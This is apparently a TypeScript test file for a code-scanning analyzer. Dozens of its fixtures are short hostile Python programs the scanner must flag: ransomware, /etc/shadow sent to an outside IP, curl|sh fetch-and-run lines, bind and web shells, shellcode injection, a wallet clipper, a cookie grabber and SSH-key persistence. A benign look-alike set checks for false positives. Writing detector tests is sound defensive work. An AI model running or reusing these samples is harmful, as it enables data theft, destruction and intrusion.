/**
 * Whole hostile programs, written in shapes the rule fixtures do not spell out (a name hidden in a
 * conditional, a lambda that imports, a walk that deletes file by file): each must reach at least
 * the severity that blocks or asks before running. Fails if any resolution or rule they rely on breaks.
 */
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createAnalyzer, type Analyzer } from '../../src/scan/engine/analyzer.js';
import type { Severity } from '../../src/findings/finding.js';

let analyzer: Analyzer;
before(async () => {
  analyzer = await createAnalyzer();
});

const RANK: Record<Severity, number> = { low: 0, medium: 1, high: 2, critical: 3 };

const PROGRAMS: { name: string; least: Severity; rule: string; source: string }[] = [
  {
    name: 'every file under the home directory, passed in as a parameter, XOR-ed in place',
    least: 'high',
    rule: 'destructive-file-ops',
    source: `import os
def h(p):
    for root, _, files in os.walk(p):
        for n in files:
            fp = os.path.join(root, n)
            with open(fp, "r+b") as f:
                data = f.read()
                f.seek(0)
                f.write(bytes(b ^ 0x41 for b in data))
h(os.environ["HOME"])
`,
  },
  {
    name: 'a password file piped into nc through a shell helper',
    least: 'high',
    rule: 'malicious-command',
    source: `import subprocess
def run(c):
    return subprocess.Popen(c, shell=True, stdout=subprocess.PIPE).communicate()[0]
run("cat /etc/shadow | nc 203.0.113.15 9999")
`,
  },
  {
    name: 'exec of base64 decoded through a module kept on an object',
    least: 'high',
    rule: 'encoded-payload-exec',
    source: `class Loader:
    def __init__(self):
        import base64
        self.b = base64
    def go(self, s):
        return self.b.b64decode(s)
exec(Loader().go("cHJpbnQoMSk="))
`,
  },
  {
    name: 'an attacker key appended to ~/.ssh/authorized_keys through a pathlib path built with /',
    least: 'high',
    rule: 'persistence',
    source: `from pathlib import Path
ak = Path.home() / ".ssh" / "authorized_keys"
with ak.open("a") as f:
    f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO attacker\\n")
`,
  },
  {
    name: 'module source downloaded to a temp file and loaded with importlib',
    least: 'critical',
    rule: 'dropper',
    source: `import importlib.util, urllib.request, tempfile, os
src = urllib.request.urlopen("https://198.51.100.50/m.py").read()
p = os.path.join(tempfile.mkdtemp(), "m.py")
open(p, "wb").write(src)
spec = importlib.util.spec_from_file_location("m", p)
mod = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mod)
`,
  },
  {
    name: 'the whole environment put into an email body by set_content and sent over SMTP',
    least: 'high',
    rule: 'exfiltration',
    source: `import os, smtplib
from email.message import EmailMessage
msg = EmailMessage(); msg["Subject"] = "env"; msg.set_content(repr(dict(os.environ)))
with smtplib.SMTP_SSL("smtp.example.com", 465) as s:
    s.login("bot@example.com", "pw"); s.send_message(msg, "bot@example.com", ["drop@example.com"])
`,
  },
  {
    name: 'eval of text shifted back one character by a lambda decoder',
    least: 'high',
    rule: 'encoded-payload-exec',
    source: `x = lambda s: "".join(map(lambda c: chr(ord(c) - 1), s))
eval(x("fyfd)(jnqpsu!pt<pt/tztufn)#xipbnj#*(*"))
`,
  },
  {
    name: 'a zip fetched at run time is unpacked and its directory put on sys.path, then imported',
    least: 'critical',
    rule: 'dropper',
    source: `import urllib.request, zipfile, io, sys
z = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen("https://198.51.100.12/p.zip").read()))
sys.path.insert(0, "/tmp/p")
z.extractall("/tmp/p")
import payload
payload.run()
`,
  },
  {
    name: 'a GUI dialog dressed as a macOS password prompt',
    least: 'high',
    rule: 'credential-access',
    source: `import tkinter as tk
from tkinter import simpledialog
root = tk.Tk(); root.withdraw()
pw = simpledialog.askstring("macOS", "macOS wants to make changes. Enter your password:", show="*")
`,
  },
  {
    name: 'bind shell: what a connection accepted on a port sends is run as a command',
    least: 'critical',
    rule: 'download-exec',
    source: `import socket, subprocess
s = socket.socket()
s.bind(("0.0.0.0", 31337))
s.listen(1)
c, _ = s.accept()
while True:
    d = c.recv(1024)
    c.send(subprocess.getoutput(d.decode()).encode())
`,
  },
  {
    name: 'code kept reversed in a data file beside the script, compiled and executed',
    least: 'high',
    rule: 'encoded-payload-exec',
    source: `import sys, types
m = types.ModuleType("m")
src = open(sys.argv[0] + ".dat", "rb").read()[::-1]
exec(compile(src, "<m>", "exec"), m.__dict__)
`,
  },
  {
    name: 'shellcode downloaded, copied into RWX memory from libc.mmap and called through CFUNCTYPE',
    least: 'critical',
    rule: 'native-code',
    source: `import ctypes, urllib.request
buf = urllib.request.urlopen("http://198.51.100.4/sc.bin").read()
libc = ctypes.CDLL("libc.so.6")
mem = libc.mmap(0, len(buf), 7, 0x22, -1, 0)
ctypes.memmove(mem, buf, len(buf))
ctypes.CFUNCTYPE(None)(mem)()
`,
  },
  {
    name: 'ransomware: every file a recursive glob of home + "/**/*.*" finds is encrypted to a copy and removed',
    least: 'high',
    rule: 'destructive-file-ops',
    source: `import glob, os
from cryptography.fernet import Fernet
f = Fernet(Fernet.generate_key())
for path in glob.glob(os.path.expanduser("~") + "/**/*.*", recursive=True):
    try:
        data = open(path, "rb").read()
        open(path + ".locked", "wb").write(f.encrypt(data))
        os.remove(path)
    except Exception:
        pass
`,
  },
  {
    name: 'exec reached through a conditional over two spellings of a builtin',
    least: 'critical',
    rule: 'encoded-payload-exec',
    source: `import base64
payload = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovL2V2aWwuZXhhbXBsZS9zLnNoIHwgc2gnKQ=="
runner = getattr(__builtins__, "exec") if hasattr(__builtins__, "exec") else __builtins__["ex" + "ec"]
runner(base64.b64decode(payload))
`,
  },
  {
    name: 'os.system from an import of character codes and a hex attribute name, uploading a file',
    least: 'high',
    rule: 'malicious-command',
    source: `import importlib
m = importlib.import_module("".join(map(chr, [111, 115])))
f = getattr(m, bytes.fromhex("73797374656d").decode())
f("id > /tmp/.x; curl -d @/tmp/.x http://203.0.113.5/")
`,
  },
  {
    name: 'a fetch-and-run command through a self-applying lambda',
    least: 'high',
    rule: 'malicious-command',
    source: `lam = (lambda _: _(_))(lambda __: __import__('os'))
getattr(lam, 'popen')('wget -qO- http://198.51.100.2/a|sh').read()
`,
  },
  {
    name: 'ransomware: every file under home rewritten and removed',
    least: 'high',
    rule: 'destructive-file-ops',
    source: `import os, glob
home = os.path.expanduser("~")
for p in glob.glob(os.path.join(home, "**", "*"), recursive=True):
    if os.path.isfile(p):
        with open(p, "rb") as f: data = f.read()
        with open(p + ".locked", "wb") as f: f.write(bytes(b ^ 0x5A for b in data))
        os.remove(p)
`,
  },
  {
    name: 'a copy of itself in the Windows Startup folder',
    least: 'high',
    rule: 'persistence',
    source: `import shutil, os, sys
target = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "updater.pyw")
shutil.copy(sys.argv[0], target)
`,
  },
  {
    name: 'shellcode made executable with libc mprotect',
    least: 'high',
    rule: 'native-code',
    source: `import ctypes
libc = ctypes.CDLL(None)
buf = ctypes.create_string_buffer(b"\\x90" * 64)
mprotect = libc.mprotect
mprotect(ctypes.c_void_p(ctypes.addressof(buf) & ~0xfff), 4096, 7)
ctypes.cast(buf, ctypes.CFUNCTYPE(None))()
`,
  },
  {
    name: 'a clipper swapping wallet addresses',
    least: 'high',
    rule: 'keylogger-clipboard',
    source: `import pyperclip, re, time
while True:
    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", pyperclip.paste()):
        pyperclip.copy("bc1qexampleexampleexampleexampleexample")
    time.sleep(0.5)
`,
  },
  {
    name: 'ransomware encrypting every file under home in place',
    least: 'high',
    rule: 'destructive-file-ops',
    source: `from pathlib import Path
from cryptography.fernet import Fernet
f = Fernet(Fernet.generate_key())
for p in Path.home().rglob("*"):
    if p.is_file():
        p.write_bytes(f.encrypt(p.read_bytes()))
        p.rename(p.with_suffix(p.suffix + ".locked"))
`,
  },
  {
    name: 'a fork bomb',
    least: 'high',
    rule: 'destructive-file-ops',
    source: `import os
while 1:
    os.fork()
`,
  },
  {
    name: 'security agents killed by name through psutil',
    least: 'high',
    rule: 'anti-analysis',
    source: `import psutil
AGENTS = {"clamd", "falcon-sensor", "osqueryd"}
for proc in psutil.process_iter(["name"]):
    if proc.info["name"] in AGENTS:
        proc.kill()
`,
  },
  {
    name: 'shell history and firewall rules erased',
    least: 'high',
    rule: 'malicious-command',
    source: `import subprocess
subprocess.run("unset HISTFILE; history -c; rm -f ~/.bash_history", shell=True)
subprocess.run(["iptables", "-F"])
`,
  },
  {
    name: 'remote-thread injection through kernel32',
    least: 'high',
    rule: 'native-code',
    source: `import ctypes
k = ctypes.windll.kernel32
h = k.OpenProcess(0x1F0FFF, False, 4242)
addr = k.VirtualAllocEx(h, 0, 4096, 0x3000, 0x40)
k.WriteProcessMemory(h, addr, b"\\x90" * 64, 64, None)
k.CreateRemoteThread(h, None, 0, addr, None, 0, None)
`,
  },
  {
    name: 'a module encrypted by PyArmor',
    least: 'high',
    rule: 'obfuscation',
    source: `from pytransform import pyarmor_runtime
pyarmor_runtime()
__pyarmor__(__name__, __file__, b"\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52\\x00\\x00\\x03")
`,
  },
  {
    name: 'a fake sudo prompt whose answer is kept',
    least: 'high',
    rule: 'credential-access',
    source: `import getpass, subprocess
pw = getpass.getpass("[sudo] password for %s: " % getpass.getuser())
subprocess.run(["sudo", "-S", "true"], input=pw + "\\n", text=True)
open("/tmp/.p", "w").write(pw)
`,
  },
  {
    name: 'a webcam picture mailed away',
    least: 'high',
    rule: 'keylogger-clipboard',
    source: `import cv2, smtplib
ok, frame = cv2.VideoCapture(0).read()
cv2.imwrite("/tmp/.c.jpg", frame)
s = smtplib.SMTP("smtp.mail.example", 587)
s.sendmail("a@mail.example", ["drop@mail.example"], open("/tmp/.c.jpg", "rb").read())
`,
  },
  {
    name: 'a download saved to a temporary file and started',
    least: 'critical',
    rule: 'dropper',
    source: `import requests, tempfile, subprocess
response = requests.get("https://cdn.example.invalid/attachments/1/2/update")
with tempfile.NamedTemporaryFile(delete=False) as tmp:
    tmp.write(response.content)
    program = tmp.name
subprocess.call([program])
`,
  },
  {
    name: 'a source written in UTF-7 hiding a fetch-and-run',
    least: 'critical',
    rule: 'malicious-command',
    source: `# coding: utf-7
import os
+AG8AcwAuAHMAeQBzAHQAZQBtACgAIgBjAHUAcgBsACAALQBzACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADkALwB4ACAAfAAgAHMAaAAiACk-
`,
  },
  {
    name: 'the UTF-7 source itself',
    least: 'high',
    rule: 'obfuscation',
    source: `# coding: utf-7
import os
+AG8AcwAuAHMAeQBzAHQAZQBtACgAIgBpAGQAIgAp-
`,
  },
  {
    name: 'a fetch-and-run handed to a thread and to atexit',
    least: 'critical',
    rule: 'malicious-command',
    source: `import threading, atexit, os
threading.Thread(target=os.system, args=("curl -s http://203.0.113.9/x | sh",), daemon=True).start()
atexit.register(os.system, "wget -qO- http://203.0.113.9/y | bash")
`,
  },
  {
    name: 'a decoded payload executed by another process',
    least: 'critical',
    rule: 'encoded-payload-exec',
    source: `import multiprocessing, base64
payload = base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=")
multiprocessing.Process(target=exec, args=(payload,)).start()
`,
  },
  {
    name: 'a Flask web shell',
    least: 'high',
    rule: 'reverse-shell',
    source: `import subprocess
from flask import Flask, request
app = Flask(__name__)
@app.route("/x")
def x():
    return subprocess.check_output(request.args.get("c"), shell=True)
`,
  },
  {
    name: 'a Roblox cookie grabber',
    least: 'high',
    rule: 'credential-access',
    source: `import browser_cookie3, requests
for cookie in browser_cookie3.chrome(domain_name="roblox.com"):
    if cookie.name == ".ROBLOSECURITY":
        requests.post(hook, data={"content": cookie.value})
`,
  },
  {
    name: 'code hidden after the pixels of an image',
    least: 'high',
    rule: 'exec-eval',
    source: `data = open("assets/logo.png", "rb").read()
exec(data[2048:])
`,
  },
  {
    name: '/etc/shadow sent over a socket',
    least: 'high',
    rule: 'credential-access',
    source: `import socket
s = socket.create_connection(("198.51.100.7", 4444))
s.sendall(open("/etc/shadow", "rb").read())
`,
  },
];

for (const program of PROGRAMS) {
  test(`${program.name}: ${program.rule} at ${program.least} or above`, () => {
    const { findings } = analyzer.analyze('program.py', Buffer.from(program.source));
    const worst = Math.max(-1, ...findings.filter((f) => f.ruleId === program.rule).map((f) => RANK[f.severity]));
    assert.ok(worst >= RANK[program.least], `${program.rule} reached ${worst < 0 ? 'nothing' : Object.keys(RANK)[worst]}; findings: ${findings.map((f) => `${f.severity} ${f.ruleId}`).join(', ') || 'none'}`);
  });
}

test('their benign look-alikes stay below high', () => {
  const benign = `import os, glob, shutil, pyperclip, socket, sys, zipfile, smtplib, importlib.util, requests, subprocess
def tidy(folder):
    for root, _, names in os.walk(folder):
        for n in names:
            with open(os.path.join(root, n), "r+") as f:
                f.write(f.read().rstrip() + "\\n")
tidy("docs")
subprocess.run("cat build.log | tail -20", shell=True)
from pathlib import Path
with (Path.home() / ".ssh" / "authorized_keys").open() as keys:
    print(len(keys.readlines()))
open("weather.json", "w").write(requests.get("https://api.example.invalid/w").text)
plugin = importlib.util.spec_from_file_location("plugin", "plugins/local.py")
from email.message import EmailMessage
report = EmailMessage(); report.set_content("nightly build finished: " + str(len(glob.glob("dist/*.whl"))) + " wheels")
with smtplib.SMTP("localhost") as relay:
    relay.send_message(report)
shout = lambda text: text.upper()
print(eval(shout("1 + 2")))
zipfile.ZipFile("vendor/plugins.zip").extractall("vendor/plugins")
sys.path.insert(0, "vendor/plugins")
from tkinter import simpledialog
name = simpledialog.askstring("Project", "Name of the new project:")
echo = socket.socket()
echo.bind(("127.0.0.1", 7000))
echo.listen(1)
peer_conn, _ = echo.accept()
line = peer_conn.recv(1024)
peer_conn.send(line[::-1])
print(open("notes.txt").read()[::-1])
for old in glob.glob(os.path.join("build", "**", "*.o"), recursive=True):
    os.remove(old)
for top, dirs, names in os.walk(os.path.expanduser("~/.cache/myapp")):
    for name in names:
        os.remove(os.path.join(top, name))
cwd = getattr(os, "getcwd")()
pyperclip.copy(cwd)
print("to install: curl -fsSL https://get.example.invalid/i.sh | bash")
from pathlib import Path
for p in Path.home().rglob("*.txt"):
    Path("backup", p.name).write_text(p.read_text())
while True:
    conn, peer = server.accept()
    if os.fork() == 0:
        os._exit(0)
token = getpass.getpass("API token: ")
clip = cv2.VideoCapture("holiday.mp4")
os.system("systemctl restart myapp")
import ctypes
ctypes.windll.kernel32.RtlMoveMemory(dest, message, length)
exec(open("mypkg/version.py").read())
import urllib.request, subprocess
with open(filename, "wb") as fp:
    fp.write(urllib.request.urlopen(url).read())
vcs = url.split(":")[0]
subprocess.check_call([vcs, "clone", "--quiet", url, filename])
`;
  const { findings } = analyzer.analyze('tidy.py', Buffer.from(benign));
  assert.deepEqual(findings.filter((f) => RANK[f.severity] >= RANK.high).map((f) => `${f.line} ${f.ruleId}`), []);
});

test('a token in an API call’s headers is medium; the same token as cargo, to a bare IP, or the whole environment as headers is high', () => {
  const severity = (call: string): string | undefined =>
    analyzer.analyze('api.py', Buffer.from(`import os, requests\ntoken = os.environ["GITHUB_TOKEN"]\n${call}\n`)).findings.find((f) => f.ruleId === 'exfiltration')?.severity;
  assert.equal(severity('requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {token}"}, timeout=5)'), 'medium');
  assert.equal(severity('requests.get("https://api.github.com/user", params={"t": token}, timeout=5)'), 'high');
  assert.equal(severity('requests.get("http://203.0.113.9/user", headers={"Authorization": token}, timeout=5)'), 'high');
  assert.equal(severity('requests.post("https://collector.example.invalid/", headers=dict(os.environ), timeout=5)'), 'high');
});

test('a package that hands a second interpreter code at import is high; one that asks git for its version is medium', () => {
  const severityIn = (source: string): string | undefined => analyzer.analyze('pkg/__init__.py', Buffer.from(source)).findings.find((f) => f.ruleId === 'import-time-process')?.severity;
  assert.equal(severityIn('import subprocess\np = subprocess.Popen(["python3", "-c", "from seccache import cache_manager"], close_fds=True)\n'), 'high');
  assert.equal(severityIn('import subprocess\n__version__ = subprocess.check_output(["git", "describe", "--tags"]).decode()\n'), 'medium');
  assert.equal(severityIn('import subprocess\n__version__ = subprocess.check_output(["sh", "-c", "git describe --tags"]).decode()\n'), 'medium');
});
